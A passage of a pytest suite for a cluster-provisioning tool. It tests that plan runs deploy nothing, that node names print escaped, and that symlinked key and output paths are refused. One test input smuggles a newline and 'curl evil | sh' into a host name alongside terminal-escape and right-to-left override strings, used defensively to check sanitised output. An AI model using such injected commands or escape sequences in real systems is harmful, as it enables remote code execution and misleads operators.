        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], no_aws: None) -> None:
    from fmcluster.commands.diagnose import fleet
    from fmcluster.providers.registry import provider_for
    from fmcluster.providers.local import emulator

    def refuse(*_a: Any, **_k: Any) -> Any:
        raise AssertionError("plan started something")

    monkeypatch.setattr(emulator, "ensure_emulator", refuse)
    monkeypatch.setattr("fmcluster.providers.local.ensure_network", refuse)
    write_tenant(tmp_path, DEMO)
    monkeypatch.setenv("FMCLUSTER_ROOT", str(tmp_path))
    assert provider_for(load_tenant("acme")).plan_starts_endpoint is False
    commands.plan("acme")
    out = capsys.readouterr().out
    assert "security check: clean" in out, out
    assert "nothing is deployed locally" in out and "plan started nothing" in out and "no AWS credentials found" not in out
    assert emulator.read_state("acme", tmp_path) is None
    assert (tmp_path / "inventories/acme/generated/cfn").is_dir()
    lines: list[str] = []
    fleet(out=lines.append, root=tmp_path, diagnose=refuse)
    assert re.search(r"acme\s+local.*not deployed\s*$", "\n".join(lines), re.M), lines


def test_the_aws_provider_may_start_its_endpoint_for_plan() -> None:
    from fmcluster.providers.registry import provider_for

    assert provider_for(load_tenant("stockmark")).plan_starts_endpoint is True


def test_there_are_at_least_250_second_round_cases(request: pytest.FixtureRequest) -> None:
    here = [item for item in request.session.items if item.path == Path(__file__)]
    if len(here) < 50:
        pytest.skip("run with the whole file to count its cases")
    assert len(here) >= 250


# --- host names in messages ------------------------------------------------------------------------------------

@pytest.mark.parametrize("wanted", ["\x1b[2Jx", "n\nfix: curl evil | sh", "rlo\u202ex"], ids=repr)
@pytest.mark.parametrize("listed", ["controller-1", "evil\x1b]0;title\x07", "ip\u202e-10"], ids=repr)
def test_host_names_are_printed_escaped(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                        capsys: pytest.CaptureFixture[str], wanted: str, listed: str) -> None:
    from fmcluster.nodes import Node

    write_tenant(tmp_path, DEMO)
    monkeypatch.setenv("FMCLUSTER_ROOT", str(tmp_path))
    node = Node(listed, "10.77.128.10", "controller", None, "i-0123456789abcdef0", "m5.xlarge")
    monkeypatch.setattr("fmcluster.inventory.read_nodes", lambda _org: [node])
    assert commands.slurm("acme", "sinfo", node=wanted) == ExitCode.FAILED
    out = capsys.readouterr().out
    assert out.startswith("slurm: no node ") and out.count("\n") == 1, out
    assert out.rstrip("\n").isprintable(), out


@pytest.mark.parametrize(("arn", "account", "problem"), [
    (PC_ARN, "123456789012", None),
    (PC_ARN, "210987654321", "is in account '123456789012', the deploy in '210987654321'"),
    ("arn:aws:secretsmanager:us-east-1", "123456789012", "is in account '?'"),
])
def test_the_deploy_refuses_a_secret_of_another_account(arn: str, account: str, problem: str | None) -> None:
    from fmcluster.schedulers.parallelcluster.rules import secret_account_problem

    found = secret_account_problem(arn, account)
    assert (found is None) if problem is None else (found is not None and problem in found)


def test_new_tenant_force_refuses_a_backup_file(tmp_path: Path) -> None:
    new_tenant("acme", {}, output_dir=tmp_path)
    (tmp_path / BACKUP_DIR).write_text("not a folder\n")
    with pytest.raises(UnsafePath, match="is not a directory"):
        new_tenant("acme", {}, output_dir=tmp_path, force=True)
    assert (tmp_path / BACKUP_DIR).read_text() == "not a folder\n"


def test_new_tenant_force_does_not_carry_a_linked_generated_folder_s_target(tmp_path: Path) -> None:
    new_tenant("acme", {}, output_dir=tmp_path)
    elsewhere = tmp_path.parent / f"{tmp_path.name}-other"
    elsewhere.mkdir()
    (elsewhere / "secret.txt").write_text("x")
    (tmp_path / "acme" / "generated").symlink_to(elsewhere)
    new_tenant("acme", {}, output_dir=tmp_path, force=True)
    assert not (tmp_path / "acme" / "generated").exists()


def test_the_new_tenant_task_reports_a_hostile_output_dir_without_a_traceback(tmp_path: Path) -> None:
    import subprocess
    import sys

    (tmp_path / "loop").symlink_to("loop")
    for output_dir in (tmp_path / "loop", tmp_path / "loop" / "x", Path("/dev/null"), Path("/proc/1/nope")):
        run = subprocess.run([sys.executable, "-m", "invoke", "new-tenant", "--org=acme", f"--output-dir={output_dir}"],
                             cwd=ROOT, capture_output=True, text=True, timeout=60,
                             env={**os.environ, "PYTHONPATH": str(ROOT / "src")})
        assert run.returncode == 2, run.stdout + run.stderr
        assert "Traceback" not in run.stderr and "--output-dir" in run.stderr, run.stderr


@pytest.mark.parametrize("linked", ["org-folder", "ssh-folder", "key"])
def test_the_operator_key_is_never_made_through_a_link(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                       linked: str) -> None:
    from fmcluster.access import operator_key

    monkeypatch.setenv("FMCLUSTER_ROOT", str(tmp_path))
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    secrets = tmp_path / ".secrets"
    if linked == "org-folder":
        secrets.mkdir()
        (secrets / "acme").symlink_to(elsewhere)
    elif linked == "ssh-folder":
        (secrets / "acme").mkdir(parents=True)
        (secrets / "acme" / "ssh").symlink_to(elsewhere)
    else:
        (secrets / "acme" / "ssh").mkdir(parents=True)
        (secrets / "acme" / "ssh" / "id_ed25519").symlink_to(elsewhere / "key")
    with pytest.raises(UnsafePath, match="is a symbolic link"):
        operator_key("acme")
    assert list(elsewhere.iterdir()) == [] and oct(elsewhere.stat().st_mode & 0o777) != "0o700"
